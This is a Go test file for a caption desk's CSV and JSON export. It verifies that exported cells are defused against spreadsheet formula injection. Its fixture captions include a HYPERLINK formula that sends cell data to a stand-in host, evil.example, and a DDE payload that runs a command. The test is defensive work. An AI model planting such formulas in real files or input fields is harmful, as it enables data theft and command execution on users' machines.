package desk_test

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
)

// No cell of an exported table begins like a formula, and all of them come
// back as they were but for that.
func TestExport(t *testing.T) {
	s, reports, checker := open(t)
	captions := map[string]string{
		"equals.jpg": `=HYPERLINK("http://evil.example/"&A1) Boats leave.`, "plus.jpg": "+1+A1 Boats leave a harbour.", "minus.jpg": "-2+3 Boats leave a harbour.",
		"at.jpg": "@SUM(A1) Boats leave a harbour.", "space.jpg": "  =1+1 Boats leave a harbour.", "wide.jpg": "＝1+1 Boats leave a harbour.", "plain.jpg": "Boats, \"red\"\nand blue. REUTERS/Joan Baird", "-key.jpg": "A boat.",
		"semicolon.jpg": `A boat; =cmd|' /C calc'!A0; "@SUM(1+1)" and more.`, "line.jpg": "A boat.\n=1+1\n\t-2 and more.",
		"new\nline,;\"<b>.jpg": "A boat in a harbour.",
	}
	n := 0
	for key, caption := range captions {
		n++
		put(t, reports, checker, key, strings.Repeat("0", n)+"1", caption)
	}
	status, body := get(t, s.URL+"/export.csv")
	if status != http.StatusOK {
		t.Fatal(status)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF"))).ReadAll()
	if err != nil || len(rows) != len(captions)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if trimmed := strings.TrimLeft(cell, " "); trimmed != "" && strings.ContainsAny(trimmed[:1], "=+-@") || strings.HasPrefix(cell, "＝") {
				t.Errorf("a cell begins like a formula: %q", cell)
			}
		}
		key := strings.TrimPrefix(row[1], "'")
		if got := row[len(row)-1]; strings.ReplaceAll(got, "'", "") != strings.ReplaceAll(captions[key], "'", "") {
			t.Errorf("%s: %q, want %q", key, got, captions[key])
		}
	}
	// Nor does one where a spreadsheet cuts at semicolons and minds no quotes.
	for cell := range strings.FieldsFuncSeq(strings.TrimPrefix(body, "\uFEFF"), func(c rune) bool { return strings.ContainsRune(";\t\r\n", c) }) {
		if trimmed := strings.TrimLeft(cell, ` "`); trimmed != "" && strings.ContainsAny(trimmed[:1], "=+-@|%") {
			t.Errorf("cut at semicolons, a cell begins like a formula: %q", cell)
		}
	}
	_, body = get(t, s.URL+"/export.json?prefix=plain")
	var list struct {
		Reports []struct{ Key, Text string }
		Next    string
	}
	if err := json.Unmarshal([]byte(body), &list); err != nil || len(list.Reports) != 1 || list.Reports[0].Text != captions["plain.jpg"] || list.Next != "" {
		t.Errorf("%v: %s", err, body)
	}
	if status, _ := get(t, s.URL+"/export.csv?day=today"); status != http.StatusBadRequest {
		t.Errorf("a day that is none: %d", status)
	}
}
